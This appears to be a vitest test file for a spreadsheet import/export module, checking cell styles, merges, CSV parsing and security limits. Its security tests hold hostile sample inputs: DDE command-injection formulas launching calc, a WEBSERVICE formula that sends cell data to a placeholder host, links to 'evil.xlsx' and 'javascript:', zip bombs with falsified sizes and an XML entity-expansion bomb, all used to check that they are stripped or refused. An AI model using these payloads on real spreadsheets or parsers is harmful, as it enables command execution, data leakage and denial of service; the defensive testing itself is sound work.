import { read, utils, write } from '@e965/xlsx'
import { describe, expect, it, vi } from 'vitest'
import { decodeText } from '../../lib/files/decode.ts'
import { bytesOf, main, makeWorkbook } from '../../test/workbook.ts'
import { rowsOf, sheetOf } from './csv-read.ts'
import { isPlainFormula } from './formula.ts'
import { readXlsx } from './read.ts'
import { ROWS_MAX } from './sheet-read.ts'
import { writeXlsx } from './write.ts'
import { directoryOf, unpack, zipOf } from './zip.ts'

const exported = async (...sheets: object[]) => read(await writeXlsx(JSON.stringify(sheets)), { cellNF: true, cellStyles: true })
const row = (...cells: unknown[]) => ({
  cells: Object.fromEntries(cells.map((cell, c) => [c, typeof cell === 'object' ? cell : { text: cell }])),
})

/** Runs `work` and measures how many MB it unpacked. */
async function unpacking<T>(work: () => Promise<T>) {
  let bytes = 0
  const Real = DecompressionStream
  const count = () =>
    new TransformStream<Uint8Array, Uint8Array>({
      transform(chunk, next) {
        bytes += chunk.length
        next.enqueue(chunk)
      },
    })
  class Counted {
    readonly writable: WritableStream
    readonly readable: ReadableStream
    constructor(format: CompressionFormat) {
      const real = new Real(format)
      this.writable = real.writable
      this.readable = real.readable.pipeThrough(count())
    }
  }
  vi.stubGlobal('DecompressionStream', Counted)
  try {
    const result = await work().then(
      (value) => ({ value, error: undefined }),
      (error: Error) => ({ value: undefined, error }),
    )
    return { ...result, unpacked: bytes / 1024 / 1024 }
  } finally {
    vi.unstubAllGlobals()
  }
}

describe('S73: export', () => {
  it.each(['=1+1', "=cmd|'/c calc'!A0", '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x")'])(
    'writes the text %j with the type text',
    async (text) => {
      const { Sheets } = await exported({ name: 's', rows: { 0: row({ text, sheaf: { t: 's' } }) } })
      expect(Sheets['s']?.['A1']).toMatchObject({ t: 's', v: text.replace('\r', '\n') })
      expect(Sheets['s']?.['A1'].f).toBeUndefined()
    },
  )

  it('keeps formulas with their results, except those that access external data', async () => {
    const { Sheets } = await exported({
      name: 's',
      rows: {
        0: row(
          { text: '=A2*2', sheaf: { v: 84 } },
          { text: '=A2&"x<y"', sheaf: { v: '42x<y' } },
          { text: '=A2=1', sheaf: { v: false } },
          '=A2+1',
        ),
        1: row('42', "=cmd|'/c calc'!A0", { text: '=WEBSERVICE("http://x/"&A1)', sheaf: { v: 'leaked' } }, "='[evil.xlsx]S'!A1"),
      },
    })
    const s = Sheets['s']!
    expect(s['A1']).toMatchObject({ t: 'n', v: 84, f: 'A2*2' })
    expect(s['B1']).toMatchObject({ v: '42x<y', f: 'A2&"x<y"' })
    expect(s['C1']).toMatchObject({ t: 'b', v: false, f: 'A2=1' })
    expect(s['D1']).toMatchObject({ f: 'A2+1' })
    for (const [name, v] of [
      ['B2', "=cmd|'/c calc'!A0"],
      ['C2', 'leaked'],
      ['D2', "='[evil.xlsx]S'!A1"],
    ] as const) {
      expect(s[name]).toMatchObject({ t: 's', v })
      expect(s[name].f).toBeUndefined()
    }
  })

  it('detects formulas that access external data', () => {
    for (const formula of ['=SUM(A1:B2)', '=IF(A1="a[b]|c","x","y")', "='My sheet'!A1", '=VLOOKUP(A1,B:C,2,0)'])
      expect(isPlainFormula(formula)).toBe(true)
    for (const formula of [
      '=[1]S!A1',
      '=Table1[Price]',
      '=DDE("cmd","/c")',
      '=CALL("k","x")',
      '=IMAGE("x")',
      "='file:///c/[b.xlsx]S'!A1",
      `=${'A'.repeat(9000)}`,
    ])
      expect(isPlainFormula(formula)).toBe(false)
  })
})

describe('export', () => {
  it('keeps texts, numbers, dates, styles, merged areas, sizes, links and names', async () => {
    const book = await exported(
      {
        name: '主机/hosts: a very long name of a sheet',
        freeze: 'B2',
        styles: [
          { bgcolor: '#e6f1ea', color: '#1f7a5c', font: { bold: true, size: 14 }, align: 'center', border: { top: ['thin', '#000'] } },
          { format: 'rmb' },
          { sheaf: { fa: 'yyyy-mm-dd' } },
        ],
        merges: ['A3:B4'],
        rows: {
          0: {
            ...row(
              { text: '环境', style: 0 },
              { text: '12.5', style: 1 },
              { text: '2026-11-20', style: 2, sheaf: { v: 46346 } },
              '007',
              '1.50',
              'a\nb',
            ),
            height: 60,
          },
          2: row({ text: 'wide', merge: [1, 1] }),
          5: { hide: true },
        },
        cols: { 1: { width: 210 } },
        sheaf: {
          links: {
            '0_0': { linkType: 'webpage', linkAddress: 'https://a.example/?x=1&y=2' },
            '0_1': { linkType: 'webpage', linkAddress: 'javascript:alert(1)' },
          },
        },
      },
      { name: '主机/hosts: a very long name of a sheet', rows: { 0: row('\u0001 \ud800 <&>"') }, sheaf: { hidden: 1 } },
    )
    expect(book.SheetNames).toEqual(['主机 hosts  a very long name of a', '主机 hosts  a very long name 2'])
    const [first, second] = book.SheetNames.map((name) => book.Sheets[name]!)
    expect(first!['A1']).toMatchObject({ t: 's', v: '环境', l: { Target: 'https://a.example/?x=1&y=2' } })
    expect(first!['B1']).toMatchObject({ t: 'n', v: 12.5, w: '￥12.50' })
    expect(first!['B1'].l).toBeUndefined()
    expect(first!['C1']).toMatchObject({ t: 'n', v: 46346, w: '2026-11-20' })
    expect(first!['D1']).toMatchObject({ t: 's', v: '007' })
    expect(first!['E1']).toMatchObject({ t: 'n', v: 1.5, w: '1.50' })
    expect(first!['F1']).toMatchObject({ t: 's', v: 'a\nb' })
    expect(first!['A1'].s).toMatchObject({ fgColor: { rgb: 'E6F1EA' } })
    expect(first!['!merges']).toEqual([{ s: { r: 2, c: 0 }, e: { r: 3, c: 1 } }])
    expect(first!['!rows']?.[5]).toMatchObject({ hidden: true })
    expect(second!['A1'].v).toContain('<&>"')
    expect(book.Workbook?.Sheets?.[1]?.Hidden).toBe(1)
  })

  it('can be imported again without changes', async () => {
    const sheets = [
      {
        name: 'Hosts',
        freeze: 'A2',
        styles: [
          {
            align: 'center',
            bgcolor: '#e6f1ea',
            color: '#1f7a5c',
            font: { bold: true, italic: true, size: 14 },
            underline: true,
            border: { top: ['thin', '#112233'], left: ['dashed', '#000000'] },
          },
        ],
        merges: ['A3:B3'],
        rows: {
          0: row({ text: 'name', style: 0 }, { text: '=1+1', sheaf: { t: 's' } }, '42', { text: '=C1*2', sheaf: { v: 84 } }),
          1: row('a', { text: '2026-11-20', style: 1, sheaf: { v: 46346 } }),
          2: row({ text: 'm', merge: [0, 1] }),
          len: 500,
        },
        cols: { len: 26 },
      },
    ]
    sheets[0]!.styles.push({ sheaf: { fa: 'yyyy-mm-dd' } } as never)
    const { sheets: again, left } = await readXlsx(await writeXlsx(JSON.stringify(sheets)))
    expect(left).toEqual([])
    const first = again[0] as (typeof sheets)[0]
    expect(first).toMatchObject({ name: 'Hosts', freeze: 'A2', merges: ['A3:B3'] })
    expect(first.rows[0].cells).toMatchObject({
      0: { text: 'name' },
      1: { text: '=1+1', sheaf: { t: 's' } },
      2: { text: '42' },
      3: { text: '=C1*2', sheaf: { v: 84 } },
    })
    expect(first.rows[1].cells[1]).toMatchObject({ text: '2026-11-20', sheaf: { v: 46346 } })
    const look = first.styles[(first.rows[0].cells[0] as { style: number }).style]
    expect(look).toMatchObject(sheets[0]!.styles[0]!)
  })

  it('writes a file of 10,000 rows', async () => {
    const rows = Object.fromEntries(
      Array.from({ length: 10_000 }, (_, r) => [
        r,
        row(...Array.from({ length: 10 }, (_c, c) => (c % 2 ? String(r * c) : `text ${r % 97} ${c}`))),
      ]),
    )
    expect(read(await writeXlsx(JSON.stringify([{ name: 'big', rows }]))).Sheets['big']?.['!ref']).toBe('A1:J10000')
  })
})

describe('import', () => {
  it('reads files of spreadsheet programs', async () => {
    const ws = utils.aoa_to_sheet(
      [
        ['环境', 'n', 'when'],
        ['dev', 8443, new Date(Date.UTC(2026, 10, 20))],
        ['007', '=not', true],
      ],
      { UTC: true } as never,
    )
    ws['D1'] = { t: 'n', v: 8444, f: '_xlfn.IFS(B2>1,B2+1)' }
    ws['D2'] = { t: 'n', v: 0.125, z: '0.0%' }
    ws['!ref'] = 'A1:D3'
    ws['!merges'] = [{ s: { r: 2, c: 0 }, e: { r: 2, c: 1 } }]
    ws['!cols'] = [{ wpx: 180 }, { hidden: true }]
    ws['A1'].l = { Target: 'https://a.example/' }
    const book = utils.book_new(ws, '第一')
    utils.book_append_sheet(book, utils.aoa_to_sheet([['x']]), 'two')
    for (const bookType of ['xlsx', 'biff8'] as const) {
      const file = new Uint8Array(write(book, { bookType, type: 'array' }) as ArrayBuffer)
      const { sheets, left } = await readXlsx(file)
      expect(left).toEqual([])
      expect(sheets.map(({ name }) => name)).toEqual(['第一', 'two'])
      const cell = (r: number, c: number) => (sheets[0]!.rows![r] as { cells: Record<number, object> }).cells[c]
      expect(cell(0, 0)).toMatchObject({ text: '环境' })
      expect(cell(1, 1)).toMatchObject({ text: '8443' })
      expect(cell(1, 2)).toMatchObject({ text: '2026-11-20', sheaf: { v: 46346 } })
      expect(cell(2, 1)).toMatchObject({ text: '=not', sheaf: { t: 's' } })
      expect(cell(2, 2)).toMatchObject({ text: 'TRUE', sheaf: { v: true } })
      expect(cell(1, 3)).toMatchObject({ text: '12.5%', sheaf: { v: 0.125 } })
      expect(sheets[0]!.merges).toEqual(['A3:B3'])
      if (bookType === 'xlsx') {
        expect(cell(0, 3)).toMatchObject({ text: '=IFS(B2>1,B2+1)', sheaf: { v: 8444 } })
        expect(sheets[0]!.cols).toMatchObject({ 0: { width: 188 }, 1: { hide: true } })
        expect(sheets[0]!.sheaf).toMatchObject({ links: { '0_0': { linkAddress: 'https://a.example/' } } })
      }
    }
  })

  it('S73: drops macros, links to other files and program calls, and reports them', async () => {
    const file = await makeWorkbook(
      `<sheetData><row r="1"><c r="A1"><f>[1]Other!A1</f><v>7</v></c><c r="B1" t="str"><f>cmd|'/c calc'!A0</f><v>out</v></c><c r="C1"><f>A1+1</f><v>8</v></c><c r="D1" t="str"><f>WEBSERVICE("http://x")</f><v>w</v></c></row></sheetData>`,
      {
        'xl/vbaProject.bin': 'MACRO',
        'xl/externalLinks/externalLink1.xml': `<externalLink ${main}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
        'xl/media/image1.png': 'PNG',
      },
    )
    const { sheets, left } = await readXlsx(file)
    expect((sheets[0]!.rows![0] as { cells: object }).cells).toEqual({
      0: { text: '7' },
      1: { text: 'out' },
      2: { text: '=A1+1', sheaf: { v: 8 } },
      3: { text: 'w' },
    })
    expect(left).toEqual([{ kind: 'formulas', count: 3 }, { kind: 'macros' }, { kind: 'links' }, { kind: 'pictures' }])
  })

  it('S73: of 250,000 rows imports the first ones, and unpacks at most 24 MB of the sheet', async () => {
    const lines: string[] = []
    for (let r = 1; r <= 250_000; r++)
      lines.push(`<row r="${r}"><c r="A${r}"><v>${r}</v></c><c r="B${r}" t="inlineStr"><is><t>row ${r}</t></is></c></row>`)
    const file = await makeWorkbook(`<sheetData>${lines.join('')}</sheetData>`)
    lines.length = 0
    const { value, unpacked } = await unpacking(() => readXlsx(file))
    expect(unpacked).toBeLessThan(25)
    expect(value?.left).toEqual([{ kind: 'rows', sheet: 'S', count: ROWS_MAX }])
    expect(value?.sheets[0]?.rows?.[ROWS_MAX - 1]).toMatchObject({ cells: { 1: { text: `row ${ROWS_MAX}` } } })
  })

  it('S73: refuses a bomb of shared strings before unpacking, and one with a false size during unpacking', async () => {
    const file = await makeWorkbook('<sheetData/>', { 'xl/sharedStrings.xml': new Uint8Array(64 * 1024 * 1024).fill(0x41) })
    expect(file.length).toBeLessThan(1024 * 1024)
    for (const isSizeFalse of [false, true]) {
      const bomb = file.slice()
      if (isSizeFalse) {
        const entry = directoryOf(bomb).findIndex(({ name }) => /sharedStrings/.test(name))
        let at = -1
        for (let n = 0; n <= entry; n++) at = indexOf(bomb, [0x50, 0x4b, 1, 2], at + 1)
        new DataView(bomb.buffer).setUint32(at + 24, 100, true)
      }
      const { error, unpacked } = await unpacking(() => readXlsx(bomb))
      expect(error?.message).toBe('tooBig')
      expect(unpacked).toBeLessThan(isSizeFalse ? 25 : 1)
    }
  })

  it('S73: handles references to strings, styles and areas far out of range', async () => {
    const { value, unpacked, error } = await unpacking(async () =>
      readXlsx(
        await makeWorkbook(
          `<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9" customWidth="1"/></cols><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="77777"><v>2</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`,
          {
            'xl/styles.xml': `<styleSheet ${main}>${'<font '.repeat(200_000)}`,
            'xl/sharedStrings.xml': `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><sst ${main}><si><t>&b;</t></si></sst>`,
          },
        ),
      ),
    )
    expect(error?.stack).toBeUndefined()
    expect(unpacked).toBeLessThan(5)
    expect(JSON.stringify(value?.sheets).length).toBeLessThan(100_000)
  })

  it.each([
    ['an incomplete zip', bytesOf('PK\u0003\u0004 and then nothing'), 'broken'],
    ['a file with a password', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array<number>(600).fill(0)]), 'broken'],
  ])('refuses %s', async (_what, file, reason) => {
    await expect(readXlsx(file)).rejects.toThrow(reason)
  })

  it('refuses a zip that is not a spreadsheet', async () => {
    await expect(readXlsx(zipOf([{ name: 'word/document.xml', bytes: bytesOf('<x/>') }], true))).rejects.toThrow('noXlsx')
  })
})

const indexOf = (bytes: Uint8Array, wanted: number[], from: number) => {
  for (let at = from; at < bytes.length; at++) if (wanted.every((byte, offset) => bytes[at + offset] === byte)) return at
  return -1
}

describe('csv', () => {
  it('reads quotes, separators and encodings, and never creates formulas', () => {
    expect(rowsOf('a,"b ""c"", d",\r\n"two\nlines",=1+1,007', 10).rows).toEqual([
      ['a', 'b "c", d', ''],
      ['two\nlines', '=1+1', '007'],
    ])
    expect(rowsOf('a;b\n1,5;2', 10).rows).toEqual([
      ['a', 'b'],
      ['1,5', '2'],
    ])
    expect(rowsOf('a\tb', 10).rows).toEqual([['a', 'b']])
    expect(rowsOf('a\nb\nc', 2)).toEqual({ rows: [['a'], ['b']], more: true })
    expect(decodeText(new Uint8Array([0xbb, 0xb7, 0xbe, 0xb3]))).toBe('环境')
    expect(decodeText(bytesOf('\ufeff环境'))).toBe('环境')
    expect(decodeText(new Uint8Array([...bytesOf('这是一个有一处损坏的表格'), 0xff]))).toBe('这是一个有一处损坏的表格\ufffd')
    expect(sheetOf([['=cmd|x', '12', 'a']], 's').rows![0]).toEqual({
      cells: { 0: { text: '=cmd|x', sheaf: { t: 's' } }, 1: { text: '12' }, 2: { text: 'a' } },
    })
  })
})

it('unpacks a zip to the original bytes, and stops at the limit', async () => {
  const bytes = crypto.getRandomValues(new Uint8Array(40_000))
  const zip = zipOf(
    [
      { name: '名.bin', bytes },
      { name: 'b', bytes: new Uint8Array(100_000) },
    ],
    true,
  )
  const [first, second] = directoryOf(zip)
  expect(first).toMatchObject({ name: '名.bin', unpacked: 40_000 })
  expect((await unpack(zip, first!, 50_000)).bytes).toEqual(bytes)
  const cut = await unpack(zip, second!, 1_000)
  expect([cut.cut, cut.bytes.length]).toEqual([true, 1_000])
})
